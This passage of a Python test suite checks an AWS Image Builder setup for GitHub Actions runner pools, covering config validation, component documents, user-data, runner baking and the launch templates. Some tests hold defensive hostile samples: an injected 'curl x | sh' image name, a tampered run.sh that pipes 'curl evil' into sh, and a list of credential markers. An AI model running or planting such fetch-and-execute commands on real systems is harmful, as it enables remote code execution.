"""The estate's own images (issue 20.1): which pools boot them, the Image Builder component
documents that build them, the pipeline the program registers, and the launch templates that
follow the newest build."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
import shlex
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from estate.config.diagnostics import ConfigError
from estate.config.loader import Estate, load_estate, load_pool
from estate.config.stack_config import KNOWN_RUNNER_SHA256, StackConfig, parse_stack_config
from estate.derive import image_components
from estate.derive.host_user_data import image_bundle, node_user_data, user_data
from estate.derive.image_components import DOCUMENT_LIMIT, component_documents
from estate.derive.images import IMAGE_ROOT_DEVICE, STOCK, image_parameter, launch_disks, plan_images
from estate.local import aws_models
from estate.preview import Registered, run_program
from lambda_src.core.settings import ControlPlaneSettings
from lambda_src.host import bake
from lambda_src.host import bootstrap as host_bootstrap
from lambda_src.host.runner_files import manifest_path, record_runner
from policy.rules import SECRET_PATTERNS
from tests.conftest import EXAMPLE_CONFIGS, FLASHINFER_CONFIGS, H100_POOL, MINIMAL_POOL, PROJECT_DIR, needs_shared, write_pool

STACK_FILE = "Pulumi.prod.yaml"
JIT = "/runner-estate/prod/jit/"
REPORTS = "https://sqs.us-east-1.amazonaws.com/123456789012/runner-estate-prod-gpu-h100-cb-slot-reports"


def stack(**changes: Any) -> StackConfig:
    raw = {
        "environment": "prod",
        "region": "us-east-1",
        "github": {"org": "example-org", "app_id": 42},
        "secrets": {"github_app_private_key": "/x/key", "webhook_secret": "/x/hook"},
        **changes,
    }
    return parse_stack_config(raw, STACK_FILE)


EXAMPLE = load_estate([EXAMPLE_CONFIGS])


def pool_error(tmp_path: Path, text: str) -> ConfigError:
    with pytest.raises(ConfigError) as info:
        load_pool(write_pool(tmp_path, "pool-a", text))
    assert "\n" not in str(info.value)
    return info.value


# ---- config: estate.image, the stack's images ---------------------------------------------------


def test_a_pool_boots_its_architectures_and_gpus_family_by_default(tmp_path: Path) -> None:
    cpu, warnings = load_pool(write_pool(tmp_path, "cpu", MINIMAL_POOL))
    gpu, _ = load_pool(write_pool(tmp_path, "h100", H100_POOL))
    assert (cpu.image_family, gpu.image_family) == ("cpu-x86_64", "nvidia-x86_64")
    assert warnings == []  # a file naming no AMI is told nothing
    arm, _ = load_pool(write_pool(tmp_path, "arm", MINIMAL_POOL.replace("x64", "arm64").replace("m7i.2xlarge", "m7g.2xlarge")))
    assert arm.image_family == "cpu-arm64"


def test_source_ami_keeps_the_pool_on_its_ami(tmp_path: Path) -> None:
    pool, warnings = load_pool(write_pool(tmp_path, "cpu", MINIMAL_POOL + "estate:\n  image: {source: ami}\n"))
    assert pool.image_family is None
    assert warnings == []
    assert plan_images(stack(), Estate((pool,), (), ()), STACK_FILE)[0].boot["cpu"] == STOCK


@pytest.mark.parametrize(
    ("estate_section", "key", "message"),
    [
        ("image: {family: gpu-x86_64}", "estate.image.family", "is not an image family; the estate builds cpu-x86_64"),
        ("image: {family: cpu-arm64}", "estate.image.family", "cpu-arm64 is an arm64 image but runner_architecture is x64"),
        ("image: {source: ami, family: cpu-x86_64}", "estate.image", "source: ami boots runner_config.ami as it is"),
        ("image: {container_images: ['Bad Image']}", "estate.image.container_images[0]", "is not a container image reference"),
        ("volume_initialization_rate: 50", "estate.volume_initialization_rate", "EBS initializes volumes at 100-300 MiB/s"),
        ("volume_initialization_rate: 301", "estate.volume_initialization_rate", "EBS initializes volumes at 100-300 MiB/s"),
    ],
)
def test_estate_image_is_checked_at_load_naming_file_pool_and_key(tmp_path: Path, estate_section: str, key: str, message: str) -> None:
    err = pool_error(tmp_path, MINIMAL_POOL + f"estate:\n  {estate_section}\n")
    assert (err.file, err.pool, err.key) == (str(tmp_path / "pool-a.yaml"), "pool-a", key)
    assert message in err.message


def test_a_gpu_pool_cannot_boot_an_image_without_the_driver(tmp_path: Path) -> None:
    err = pool_error(tmp_path, H100_POOL.replace("estate:\n", "estate:\n  image: {family: cpu-x86_64}\n"))
    assert err.key == "estate.image.family"
    assert "has no NVIDIA driver but p5.48xlarge has GPUs: name nvidia-x86_64" in err.message


@needs_shared
def test_upstream_files_get_a_baked_image_and_are_told_their_ami_is_not_used() -> None:
    """Issue 20.5: a file in upstream's format (no estate: section) benefits unchanged."""
    estate = load_estate([FLASHINFER_CONFIGS], drop_unknown_types=True)
    plan, _ = plan_images(stack(), estate, STACK_FILE)
    assert {p: b.family for p, b in plan.boot.items()} == {
        "cpu-arm64-ondemand": "cpu-arm64",
        "cpu-arm64-spot": "cpu-arm64",
        "cpu-x64-ondemand": "cpu-x86_64",
        "cpu-x64-spot": "cpu-x86_64",
        "gpu-g4dn-ondemand": "nvidia-x86_64",
        "gpu-g4dn-spot": "nvidia-x86_64",
        "gpu-g5-ondemand": "nvidia-x86_64",
        "gpu-g5-spot": "nvidia-x86_64",
    }
    told = [w for w in estate.warnings if w.key == "runner_config.ami"]
    assert len(told) == 8
    assert all("set estate.image: {source: ami} to boot this AMI instead" in w.message for w in told)
    assert all("not honoured" not in w.message for w in told)


@pytest.mark.parametrize(
    ("images", "key", "message"),
    [
        ({"schedule": "rate(7 days)"}, "runner-estate:images.schedule", "Image Builder takes cron("),
        ({"schedule": "cron(0 4 * * SUN *)"}, "runner-estate:images.schedule", "exactly one of day-of-month and day-of-week"),
        ({"parents": {"x86_64": "ubuntu"}}, "runner-estate:images.parents", "neither ssm:/<parameter> nor an AMI id"),
        (
            {"build_instance_types": {"x86_64": ["m7g.2xlarge"]}},
            "runner-estate:images.build_instance_types",
            "m7g.2xlarge is an arm64 type",
        ),
        ({"build_instance_types": {"arm64": ["m7g.48xlarge"]}}, "runner-estate:images.build_instance_types", "unknown EC2 instance type"),
        ({"container_images": ["ubuntu:24.04; curl x | sh"]}, "runner-estate:images.container_images[0]", "not a container image"),
        ({"nvidia": {"driver_branch": "570", "driver_version": "575.51.03"}}, "runner-estate:images.nvidia", "not of driver_branch 570"),
        ({"docker_version": "latest"}, "runner-estate:images.docker_version", "String should match pattern"),
        ({"kms_key": "my key"}, "runner-estate:images.kms_key", "is not a KMS key"),
        ({"bulid": True}, "runner-estate:images.bulid", "unknown key"),
    ],
)
def test_the_stacks_images_settings_are_checked_naming_the_key(images: dict[str, Any], key: str, message: str) -> None:
    with pytest.raises(ConfigError) as info:
        stack(images=images)
    assert info.value.key == key
    assert message in info.value.message


def test_the_default_runner_versions_checksums_are_known_and_a_stacks_own_win() -> None:
    assert set(KNOWN_RUNNER_SHA256["2.329.0"]) == {"x64", "arm64"}
    assert stack().runner_checksum("x64") == KNOWN_RUNNER_SHA256["2.329.0"]["x64"]
    assert stack(runner_sha256={"x64": "ab" * 32}).runner_checksum("x64") == "ab" * 32
    assert stack(runner_version="2.330.0").runner_checksum("arm64") is None


# ---- the plan: families and boot paths ------------------------------------------------------------


def test_the_example_estate_builds_the_families_its_pools_boot() -> None:
    plan, warnings = plan_images(stack(), EXAMPLE, STACK_FILE)
    assert warnings == []
    assert [f.name for f in plan.families] == ["cpu-arm64", "cpu-x86_64", "nvidia-x86_64"]
    assert plan.boot["cpu-arm64-ondemand"] == STOCK  # estate.image: {source: ami}
    assert plan.baked_pools()["gpu-h100-cb"] == "nvidia-x86_64"
    nvidia = plan.family("nvidia-x86_64")
    assert nvidia.parent == "ssm:/aws/service/canonical/ubuntu/server/24.04/stable/current/amd64/hvm/ebs-gp3/ami-id"
    assert nvidia.parameter == "/runner-estate/prod/images/nvidia-x86_64"
    assert nvidia.container_images == ("nvidia/cuda:12.8.1-cudnn-devel-ubuntu24.04",)  # from the two block pools, once
    assert set(nvidia.pools) == {"gpu-t4-spot", "gpu-t4-ondemand", "gpu-a10g-spot", "gpu-a10g-ondemand", "gpu-h100-cb", "gpu-b200-cb"}
    assert plan.family("cpu-arm64").parent.endswith("/arm64/hvm/ebs-gp3/ami-id")
    assert plan.boot["cpu-x64-spot"].image_id == "resolve:ssm:/runner-estate/prod/images/cpu-x86_64"


def test_a_stack_that_builds_no_images_boots_every_pool_from_its_ami() -> None:
    plan, _ = plan_images(stack(images={"build": False}), EXAMPLE, STACK_FILE)
    assert plan.families == ()
    assert {b.path for b in plan.boot.values()} == {"stock"}


def test_a_runner_release_without_a_known_checksum_cannot_be_baked() -> None:
    with pytest.raises(ConfigError) as info:
        plan_images(stack(runner_version="2.330.0"), EXAMPLE, STACK_FILE)
    assert (info.value.file, info.value.key) == (STACK_FILE, "runner-estate:runner_sha256.arm64")
    assert "github.com/actions/runner/releases/tag/v2.330.0" in info.value.message
    plan_images(stack(runner_version="2.330.0", images={"build": False}), EXAMPLE, STACK_FILE)  # the stock path needs none


def test_a_pool_naming_no_disk_gets_the_images_root_and_a_smaller_root_is_refused(tmp_path: Path) -> None:
    pool, _ = load_pool(write_pool(tmp_path, "cpu", MINIMAL_POOL))
    estate = Estate((pool,), (), ())
    plan, _ = plan_images(stack(images={"root_volume_gb": {"cpu": 40}}), estate, STACK_FILE)
    (disk,) = launch_disks(pool, plan.boot["cpu"], plan, None)[0]
    assert (disk.device_name, disk.volume_size, disk.initialization_rate) == (IMAGE_ROOT_DEVICE, 40, 300)
    small = MINIMAL_POOL + "  block_device_mappings:\n    - {device_name: /dev/sda1, volume_size: 20}\n"
    pool, _ = load_pool(write_pool(tmp_path, "small", small))
    with pytest.raises(ConfigError) as info:
        plan_images(stack(), Estate((pool,), (), ()), STACK_FILE)
    assert (info.value.pool, info.value.key) == ("small", "runner_config.block_device_mappings[0].volume_size")
    assert "20 GiB is smaller than the cpu-x86_64 image's root (32 GiB, runner-estate:images.root_volume_gb)" in info.value.message


def test_a_disk_beside_the_images_root_is_said_out_loud(tmp_path: Path) -> None:
    text = MINIMAL_POOL + "  block_device_mappings:\n    - {device_name: /dev/xvdb, volume_size: 200}\n"
    pool, _ = load_pool(write_pool(tmp_path, "data", text))
    plan, warnings = plan_images(stack(), Estate((pool,), (), ()), STACK_FILE)
    (warning,) = warnings
    assert warning.key == "runner_config.block_device_mappings"
    assert "hosts keep the image's 32 GiB root and get /dev/xvdb as extra, empty volumes" in warning.message
    (disk,) = launch_disks(pool, plan.boot["data"], plan, None)[0]
    assert disk.initialization_rate is None  # an empty volume is made from no snapshot


@pytest.mark.parametrize(
    ("section", "baked_rate", "stock_rate"),
    [
        ("", 300, None),
        ("estate:\n  volume_initialization_rate: 0\n", None, None),
        ("estate:\n  volume_initialization_rate: 150\n", 150, 150),
    ],
)
def test_the_initialization_rate_is_set_on_snapshot_backed_disks(
    tmp_path: Path, section: str, baked_rate: int | None, stock_rate: int | None
) -> None:
    text = MINIMAL_POOL + "  block_device_mappings:\n    - {device_name: /dev/sda1, volume_size: 300}\n"
    text += "    - {device_name: /dev/sdb, volume_size: 100, snapshot_id: snap-0123456789abcdef0}\n    - {device_name: /dev/sdc}\n"
    pool, _ = load_pool(write_pool(tmp_path, "p", text + section))
    estate = Estate((pool,), (), ())
    baked, _ = plan_images(stack(), estate, STACK_FILE)
    rates = [d.initialization_rate for d in launch_disks(pool, baked.boot["p"], baked, None)[0]]
    assert rates == [baked_rate, baked_rate, None]
    stock, _ = plan_images(stack(images={"build": False}), estate, STACK_FILE)
    rates = [d.initialization_rate for d in launch_disks(pool, stock.boot["p"], stock, "/dev/sda1")[0]]
    assert rates == [stock_rate, stock_rate, None]


# ---- the component documents ----------------------------------------------------------------------

PLAN, _ = plan_images(stack(images={"container_images": ["ghcr.io/example-org/ci:2026.01"]}), EXAMPLE, STACK_FILE)
DOCUMENTS = {f.name: component_documents(f, stack()) for f in PLAN.families}
AWSTOE_ACTIONS = {"ExecuteBash", "Reboot"}


def test_each_family_is_built_in_order_and_only_gpu_images_get_the_driver() -> None:
    steps = {name: [d.step for d in docs] for name, docs in DOCUMENTS.items()}
    parts = [s for s in steps["cpu-x86_64"] if re.fullmatch(r"host-programs-\d+", s)]
    assert len(parts) >= 1
    middle = [*parts, "host-programs", "runner", "container-images", "finish"]
    assert steps["cpu-x86_64"] == ["os", "docker", *middle]
    assert steps["nvidia-x86_64"] == ["os", "docker", "nvidia", *middle]


@pytest.mark.parametrize("family", sorted(DOCUMENTS))
def test_documents_are_awstoe_yaml_within_image_builders_limit(family: str) -> None:
    for doc in DOCUMENTS[family]:
        assert len(doc.text) <= DOCUMENT_LIMIT
        parsed = yaml.safe_load(doc.text)
        assert parsed["schemaVersion"] == 1.0
        assert parsed["name"] == f"runner-estate-prod-{family}-{doc.step}"
        phases = [p["name"] for p in parsed["phases"]]
        assert phases[0] == "build"
        assert set(phases) <= {"build", "validate", "test"}
        for phase in parsed["phases"]:
            for step in phase["steps"]:
                assert step["action"] in AWSTOE_ACTIONS, step
                assert re.fullmatch(r"[A-Za-z][A-Za-z0-9]*", step["name"])
                if step["action"] == "ExecuteBash":
                    assert step["inputs"]["commands"][0] == "set -euo pipefail"


@pytest.mark.parametrize("family", sorted(DOCUMENTS))
def test_no_document_holds_a_credential(family: str) -> None:
    """Every download is public: nothing shaped like a key, token or password is baked in."""
    for doc in DOCUMENTS[family]:
        lowered = doc.text.lower()
        for pattern in SECRET_PATTERNS:
            assert not pattern.search(doc.text), (doc.step, pattern.pattern)
        for marker in ("ghs_", "ghp_", "github_pat_", "password", "private key", "token ", "aws_secret", "--key-name", "authorized_keys"):
            assert marker not in lowered, (doc.step, marker)


def test_versions_are_pinned_where_they_are_installed() -> None:
    text = {d.step: d.text for d in DOCUMENTS["nvidia-x86_64"]}
    sha = KNOWN_RUNNER_SHA256["2.329.0"]["x64"]
    runner = yaml.safe_load(text["runner"])["phases"][0]["steps"][0]["inputs"]["commands"][1]
    assert shlex.split(runner.split("&& ", 1)[1]) == [
        "python3",
        "-m",
        "lambda_src.host.bake",
        *("--runner-version", "2.329.0", "--runner-arch", "x64", "--runner-dir", "/opt/actions-runner"),
        *("--runner-sha256", sha),
    ]
    assert '"docker-ce=5:28.3.3-1~ubuntu.$VERSION_ID~$VERSION_CODENAME"' in text["docker"]
    assert image_components.DOCKER_KEY_FINGERPRINT in text["docker"]
    assert "nvidia-container-toolkit=1.17.8-1 nvidia-container-toolkit-base=1.17.8-1" in text["nvidia"]
    assert "linux-modules-nvidia-570-server-open-aws nvidia-headless-no-dkms-570-server-open nvidia-utils-570-server" in text["nvidia"]
    assert "nvidia-fabricmanager-570" in text["nvidia"]
    assert "ExecStart=/usr/bin/nvidia-smi -pm 1" in text["nvidia"]  # persistence mode at every boot
    assert "docker pull --quiet ghcr.io/example-org/ci:2026.01" in text["container-images"]
    assert "docker pull --quiet nvidia/cuda:12.8.1-cudnn-devel-ubuntu24.04" in text["container-images"]
    arm = {d.step: d.text for d in DOCUMENTS["cpu-arm64"]}
    assert KNOWN_RUNNER_SHA256["2.329.0"]["arm64"] in arm["runner"]


def test_an_exact_driver_release_is_held_by_an_apt_pin() -> None:
    pinned = stack(images={"nvidia": {"driver_branch": "570", "driver_version": "570.172.08", "fabric_manager": False}})
    (nvidia,) = [d.text for d in component_documents(PLAN.family("nvidia-x86_64"), pinned) if d.step == "nvidia"]
    assert "Pin: version 570.172.08*" in nvidia
    assert "fabricmanager" not in nvidia
    assert 'grep -q "^570.172.08\\."' in nvidia


def _bash_of(doc_text: str, phase: str = "build") -> list[str]:
    parsed = yaml.safe_load(doc_text)
    return [c for p in parsed["phases"] if p["name"] == phase for s in p["steps"] for c in s["inputs"]["commands"]]


def test_the_host_program_parts_rebuild_the_bundle_a_baked_hosts_user_data_checks(tmp_path: Path) -> None:
    """Run the parts' and the unpacking component's own commands (paths moved under tmp_path):
    the digest checks out and the host programs run from where user-data starts them."""
    docs = DOCUMENTS["cpu-x86_64"]
    moved = {image_components.PARTS_DIR: str(tmp_path / "parts"), "/opt/runner-estate": str(tmp_path / "opt")}
    script = []
    for doc in docs:
        if doc.step.startswith("host-programs"):
            script += [c for c in _bash_of(doc.text) if not c.startswith("chown ")]  # not root here
    text = "\n".join(script)
    for old, new in moved.items():
        text = text.replace(old, new)
    text = text.replace("python3 -c", f"{shlex.quote(sys.executable)} -c")
    subprocess.run(["bash", "-c", text], check=True, timeout=60)  # noqa: S607 - the PATH's bash, as the other host-script tests
    _, digest = image_bundle()
    assert (tmp_path / "opt" / "BUNDLE").read_text().strip() == digest
    assert not (tmp_path / "parts").exists()
    for entry in ("lambda_src.host.bootstrap", "lambda_src.host.slot_manager", "lambda_src.host.bake"):
        helped = subprocess.run([sys.executable, "-m", entry, "--help"], cwd=tmp_path / "opt", capture_output=True, text=True, check=False)
        assert helped.returncode == 0, helped.stderr


# ---- user-data on a baked image ----------------------------------------------------------------------

POOLS = {p.name: p for p in EXAMPLE.pools}


def test_a_baked_hosts_user_data_carries_no_code_and_checks_the_images() -> None:
    """Issue 20.3: EC2's 16 KiB no longer binds the host programs (a node's was ~16.1 KB)."""
    _, digest = image_bundle()
    ordinary = {b: user_data(POOLS["cpu-x64-spot"], JIT, "2.329.0", "ab" * 32, baked=b) for b in (False, True)}
    node = {b: node_user_data(POOLS["gpu-h100-cb"], JIT, "2.329.0", "ab" * 32, REPORTS, baked=b) for b in (False, True)}
    assert len(ordinary[False]) > 9000  # the stock path: the bundle rides along
    assert len(node[False]) > 15500
    assert len(ordinary[True]) < 1500
    assert len(node[True]) < 1700
    for script in (ordinary[True], node[True]):
        assert "BUNDLE" not in script.replace("/opt/runner-estate/BUNDLE", "")
        assert f'[ "$(cat /opt/runner-estate/BUNDLE 2>/dev/null)" = {digest} ] || fail' in script
        assert script.index("--uid-owner 0") < script.index("python3 -m")  # the metadata firewall still comes first
    assert "nvidia-smi -pm 1" in node[True]
    assert "nvidia-smi" not in ordinary[True]


def test_a_baked_host_whose_image_carries_other_host_programs_starts_no_runner(tmp_path: Path) -> None:
    script = user_data(POOLS["cpu-x64-spot"], JIT, "2.329.0", None, baked=True)
    (check,) = [line for line in script.splitlines() if "/BUNDLE" in line]
    stamp = tmp_path / "BUNDLE"
    stamp.write_text("0" * 64 + "\n")
    probe = f'fail() {{ echo "failed: $1"; exit 1; }}\n{check.replace("/opt/runner-estate/BUNDLE", str(stamp))}\necho started'
    stale = subprocess.run(["bash", "-c", probe], capture_output=True, text=True, check=False)  # noqa: S607
    assert (stale.returncode, stale.stdout.strip()) == (1, f"failed: the image's host programs are not {image_bundle()[1][:12]}")
    stamp.write_text(image_bundle()[1] + "\n")
    fresh = subprocess.run(["bash", "-c", probe], capture_output=True, text=True, check=False)  # noqa: S607
    assert fresh.stdout.strip() == "started"


# ---- the baked runner: installed once, checked at every boot, never downloaded again ---------------


def _release() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in (("run.sh", b"#!/bin/sh\necho runner\n"), ("bin/Runner.Listener", b"\x7fELF...")):
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def test_bake_installs_the_pinned_release_and_a_baked_host_downloads_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blob, runner_dir = _release(), tmp_path / "actions-runner"
    downloads: list[str] = []

    def release(url: str) -> bytes:
        downloads.append(url)
        return blob

    monkeypatch.setattr(bake, "download", release)
    argv = ["--runner-version", "2.329.0", "--runner-arch", "x64", "--runner-dir", str(runner_dir)]
    assert bake.main([*argv, "--runner-sha256", "0" * 64]) == 1  # a release that is not the pinned one
    assert bake.main([*argv, "--runner-sha256", hashlib.sha256(blob).hexdigest()]) == 0
    assert bake.main([*argv, "--check"]) == 0
    assert manifest_path(runner_dir).is_file()
    assert len(downloads) == 2

    def no_network(url: str) -> bytes:
        raise AssertionError(f"a baked host downloaded {url}")

    found = host_bootstrap.prepared_runner(runner_dir, "2.329.0", "x64", None, fetch=no_network)
    assert found == runner_dir


def test_the_baked_install_is_still_checked_and_a_changed_one_replaced(tmp_path: Path) -> None:
    blob, runner_dir = _release(), tmp_path / "actions-runner"
    host_bootstrap.install_runner(runner_dir, "2.329.0", "x64", None, lambda url: blob)
    (runner_dir / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    fetched: list[str] = []

    def release(url: str) -> bytes:
        fetched.append(url)
        return blob

    host_bootstrap.prepared_runner(runner_dir, "2.329.0", "x64", hashlib.sha256(blob).hexdigest(), fetch=release)
    assert len(fetched) == 1  # the manifest check caught it: a checked download replaced it
    assert "curl" not in (runner_dir / "run.sh").read_text()
    assert bake.main(["--runner-version", "2.329.0", "--runner-arch", "arm64", "--runner-dir", str(runner_dir), "--check"]) == 1


def test_record_runner_is_what_bake_and_a_host_share(tmp_path: Path) -> None:
    """One manifest format: an install recorded at bake time verifies on the host unchanged."""
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "run.sh").write_text("#!/bin/sh\n")
    record_runner(tmp_path / "r", "2.329.0", "x64")
    bake.check(tmp_path / "r", "2.329.0", "x64")


# ---- the program: the pipeline and the launch templates that follow it ---------------------------


@pytest.fixture(scope="module")
def prod() -> list[Registered]:
    return run_program(PROJECT_DIR, "prod").records


def of(records: list[Registered], kind: str) -> list[Registered]:
    return [r for r in records if r.type == kind]


def test_one_pipeline_per_family_each_writing_the_parameter_its_templates_resolve(prod: list[Registered]) -> None:
    (component,) = of(prod, "runner-estate:index:ImagePipeline")
    assert component.name == "images"
    children = [r for r in prod if r.parent == "images"]
    kinds = sorted({r.type.split(":")[-1] for r in children})
    assert kinds == [
        "Component",
        "DistributionConfiguration",
        "Image",
        "ImagePipeline",
        "ImageRecipe",
        "InfrastructureConfiguration",
        "InstanceProfile",
        "Parameter",
        "Role",
        "RolePolicy",
    ]
    families = {"cpu-arm64", "cpu-x86_64", "nvidia-x86_64"}
    distributions = {
        r.name.removeprefix("images-").removesuffix("-distribution"): r
        for r in of(prod, "aws:imagebuilder/distributionConfiguration:DistributionConfiguration")
    }
    assert set(distributions) == families
    parameters = {r.inputs["name"]: r for r in of(prod, "aws:ssm/parameter:Parameter") if "/images/" in r.inputs["name"]}
    for family, dist in distributions.items():
        (target,) = dist.inputs["distributions"]
        assert target["region"] == "us-east-1"
        assert target["ssmParameterConfigurations"] == [{"parameterName": image_parameter("prod", family), "dataType": "aws:ec2:image"}]
        assert "launchPermission" not in target["amiDistributionConfiguration"]  # private
        assert "{{ imagebuilder:buildDate }}" in target["amiDistributionConfiguration"]["name"]
        parameter = parameters[image_parameter("prod", family)]
        assert (parameter.inputs["type"], parameter.inputs["dataType"]) == ("String", "aws:ec2:image")
        assert parameter.inputs["value"].startswith("ami-")  # the parent, until the first build writes it
    pipelines = of(prod, "aws:imagebuilder/imagePipeline:ImagePipeline")
    assert len(pipelines) == 3
    for pipeline in pipelines:
        assert pipeline.inputs["schedule"] == {
            "scheduleExpression": "cron(0 4 ? * SUN *)",
            "timezone": "Etc/UTC",
            "pipelineExecutionStartCondition": "EXPRESSION_MATCH_ONLY",
        }
        assert pipeline.inputs["status"] == "ENABLED"
        assert pipeline.inputs["imageTestsConfiguration"]["imageTestsEnabled"] is True


def test_baked_pools_launch_templates_resolve_the_newest_image_after_its_first_build(prod: list[Registered]) -> None:
    urns = {r.urn: r for r in prod}
    for template in of(prod, "aws:ec2/launchTemplate:LaunchTemplate"):
        pool = template.parent or ""
        family = POOLS[pool].image_family
        if pool == "cpu-arm64-ondemand":
            assert template.inputs["imageId"].startswith("ami-")  # the stock path: its AMI filter
            assert "volumeInitializationRate" not in template.inputs["blockDeviceMappings"][0]["ebs"]
            continue
        assert template.inputs["imageId"] == f"resolve:ssm:/runner-estate/prod/images/{family}"
        waits_for = [urns[u] for u in template.dependencies if u in urns]
        assert [(r.type, r.name) for r in waits_for if r.type == "aws:imagebuilder/image:Image"] == [
            ("aws:imagebuilder/image:Image", f"images-{family}-image")
        ]
        (root,) = [d for d in template.inputs["blockDeviceMappings"] if d["deviceName"] == IMAGE_ROOT_DEVICE]
        assert root["ebs"]["volumeInitializationRate"] == 300
        assert root["ebs"]["encrypted"] == "true"
        script = base64.b64decode(template.inputs["userData"]).decode()
        assert len(script) < 2000


def test_the_deploy_time_build_waits_for_the_parameter_it_overwrites(prod: list[Registered]) -> None:
    urns = {r.urn: r for r in prod}
    for image in of(prod, "aws:imagebuilder/image:Image"):
        waits_for = {urns[u].name for u in image.dependencies if u in urns}
        family = image.name.removeprefix("images-").removesuffix("-image")
        assert f"images-{family}-parameter" in waits_for
        assert image.inputs["imageTestsConfiguration"] == {"imageTestsEnabled": True, "timeoutMinutes": 90}


def test_builds_run_hardened_in_the_runner_network(prod: list[Registered]) -> None:
    for infra in of(prod, "aws:imagebuilder/infrastructureConfiguration:InfrastructureConfiguration"):
        assert infra.inputs["instanceMetadataOptions"] == {"httpTokens": "required", "httpPutResponseHopLimit": 1}
        assert "keyPair" not in infra.inputs
        assert infra.inputs["terminateInstanceOnFailure"] is True
        assert infra.inputs["securityGroupIds"] == ["network-runners-id"]
        assert infra.inputs["subnetId"].startswith("network-private-")
        assert "runner-estate:managed" not in infra.inputs["resourceTags"]  # no controller counts a build instance
    for recipe in of(prod, "aws:imagebuilder/imageRecipe:ImageRecipe"):
        (disk,) = recipe.inputs["blockDeviceMappings"]
        assert disk["deviceName"] == IMAGE_ROOT_DEVICE
        assert disk["ebs"]["encrypted"] == "true"
        assert disk["ebs"]["volumeType"] == "gp3"
    (policy,) = [r for r in of(prod, "aws:iam/rolePolicy:RolePolicy") if r.name == "images-build-policy"]
    actions = {a for s in json.loads(policy.inputs["policy"])["Statement"] for a in s["Action"]}
    assert not [a for a in actions if a.startswith(("ssm:Get", "ssm:Put", "ec2:", "iam:", "s3:", "kms:"))]


def test_the_launching_functions_may_resolve_the_images(prod: list[Registered]) -> None:
    policies = {r.name: json.loads(r.inputs["policy"]) for r in of(prod, "aws:iam/rolePolicy:RolePolicy") if r.name.startswith("scaler-")}
    expected = {
        "scaler-scale_up-policy": ["cpu-arm64", "cpu-x86_64", "nvidia-x86_64"],
        "scaler-reconcile-policy": ["cpu-arm64", "cpu-x86_64", "nvidia-x86_64"],
        "scaler-cb_scale_up-policy": ["nvidia-x86_64"],
        "scaler-cb_manager-policy": ["nvidia-x86_64"],
    }
    for name, families in expected.items():
        (statement,) = [s for s in policies[name]["Statement"] if s["Sid"] == "ImageParameters"]
        assert statement["Action"] == ["ssm:GetParameters"]
        assert statement["Resource"] == [f"arn:aws:ssm:us-east-1:123456789012:parameter/runner-estate/prod/images/{f}" for f in families]
    assert not [s for s in policies["scaler-scale_down-policy"]["Statement"] if s["Sid"] == "ImageParameters"]


def test_the_settings_tell_the_control_plane_which_pools_boot_which_image(prod: list[Registered]) -> None:
    """A pure fact for the control plane (and the warm pools to come): each pool's image parameter."""
    (function,) = [r for r in of(prod, "aws:lambda/function:Function") if r.name == "scaler-scale_up"]
    settings = ControlPlaneSettings.from_dict(json.loads(function.inputs["code"].assets["lambda_src/control_plane.json"].text))
    assert {n: p.image_parameter for n, p in settings.pools.items()} == {
        name: "" if name == "cpu-arm64-ondemand" else image_parameter("prod", str(POOLS[name].image_family)) for name in POOLS
    }


def test_what_the_program_asks_image_builder_and_ec2_for_fits_their_models(prod: list[Registered]) -> None:
    """The requests the provider makes of these inputs, checked against botocore's models."""
    arn = "arn:aws:imagebuilder:us-east-1:123456789012"
    token = {"clientToken": "t" * 36}
    for c in of(prod, "aws:imagebuilder/component:Component"):
        body = {
            "name": f"{c.name}-abc1234",
            "semanticVersion": c.inputs["version"],
            "platform": c.inputs["platform"],
            "data": c.inputs["data"],
        }
        aws_models.check("imagebuilder", "CreateComponent", {**body, "description": c.inputs["description"], **token})
    for r in of(prod, "aws:imagebuilder/imageRecipe:ImageRecipe"):
        components = [
            {"componentArn": f"{arn}:component/{c['componentArn'].rsplit(':', 1)[1].lower()}-abc1234/1.0.0/1"}
            for c in r.inputs["components"]
        ]
        disks = [
            {
                "deviceName": d["deviceName"],
                "ebs": {
                    "encrypted": True,
                    "deleteOnTermination": True,
                    "volumeSize": int(d["ebs"]["volumeSize"]),
                    "volumeType": d["ebs"]["volumeType"],
                },
            }
            for d in r.inputs["blockDeviceMappings"]
        ]
        body = {
            "name": f"{r.name}-abc1234",
            "semanticVersion": r.inputs["version"],
            "parentImage": r.inputs["parentImage"],
            "components": components,
        }
        aws_models.check("imagebuilder", "CreateImageRecipe", {**body, "blockDeviceMappings": disks, **token})
    for i in of(prod, "aws:imagebuilder/infrastructureConfiguration:InfrastructureConfiguration"):
        options = {"httpTokens": i.inputs["instanceMetadataOptions"]["httpTokens"], "httpPutResponseHopLimit": 1}
        body = {
            "name": f"{i.name}-abc1234",
            "instanceProfileName": "images-build-profile-abc1234",
            "instanceTypes": i.inputs["instanceTypes"],
        }
        aws_models.check(
            "imagebuilder",
            "CreateInfrastructureConfiguration",
            {
                **body,
                "instanceMetadataOptions": options,
                "resourceTags": i.inputs["resourceTags"],
                "terminateInstanceOnFailure": True,
                **token,
            },
        )
    for d in of(prod, "aws:imagebuilder/distributionConfiguration:DistributionConfiguration"):
        (target,) = d.inputs["distributions"]
        ami = {k: v for k, v in target["amiDistributionConfiguration"].items() if k in ("name", "description", "amiTags")}
        body = {
            "name": f"{d.name}-abc1234",
            "distributions": [
                {
                    "region": target["region"],
                    "amiDistributionConfiguration": ami,
                    "ssmParameterConfigurations": target["ssmParameterConfigurations"],
                }
            ],
        }
        aws_models.check("imagebuilder", "CreateDistributionConfiguration", {**body, **token})
    for p in of(prod, "aws:imagebuilder/imagePipeline:ImagePipeline"):
        body = {
            "name": f"{p.name}-abc1234",
            "imageRecipeArn": f"{arn}:image-recipe/{p.name.removesuffix('-pipeline')}-recipe-abc1234/1.0.0",
            "infrastructureConfigurationArn": f"{arn}:infrastructure-configuration/images-x86_64-infrastructure-abc1234",
            "distributionConfigurationArn": f"{arn}:distribution-configuration/{p.name.removesuffix('-pipeline')}-distribution-abc1234",
